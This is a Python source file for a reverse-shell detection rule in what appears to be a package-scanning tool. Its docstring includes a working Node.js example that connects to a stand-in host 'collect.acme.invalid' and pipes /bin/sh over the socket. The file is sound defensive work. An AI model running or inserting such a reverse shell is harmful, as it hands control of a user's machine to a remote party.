"""A shell is opened over the network.

*What it does*

Looks at the commands that are started: those that open a shell over the network by themselves, and a bare shell whose
input and output are tied to a connection that the same file opens to somewhere. Servers for terminals, which wait for
a connection, are left alone.

*Why it matters*

Whoever is at the other end then does on the machine what its user can do.

*Example*

    const net = require("net"), cp = require("child_process");
    const socket = net.connect(4444, "collect.acme.invalid");
    const shell = cp.spawn("/bin/sh", []);
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Weight, acts, first_of_each_file, when
from assay.javascript.acts import TIED
from assay.javascript.alarms import BARE_SHELL, NETWORK_SHELL
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="reverse-shell",
    title="Opens a shell to somebody over the network",
    severity=Severity.CRITICAL,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, treat the machine as taken over.",
    techniques=("T1059.004", "T1059.003", "T1071.001"),
)
_WEIGHT = Weight(on_install=Severity.CRITICAL, when_used=Severity.HIGH, by_command=Severity.MEDIUM)
_KINDS = frozenset({BehaviourKind.PROCESS})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that opens one."""
    found = acts(subject, _KINDS, NETWORK_SHELL, BARE_SHELL)
    telling = (act for act in found if TIED in act.behaviour.detail or NETWORK_SHELL.search(act.behaviour.decoded))
    for act in first_of_each_file(telling):
        severity, confidence = _WEIGHT.of(act.file)
        yield finding(
            RULE,
            f"{subject.ref} opens a shell over the network {when(act.file)}",
            act.evidence(f"{act.behaviour.detail} starts {act.matched}"),
            severity=severity,
            confidence=confidence,
        )
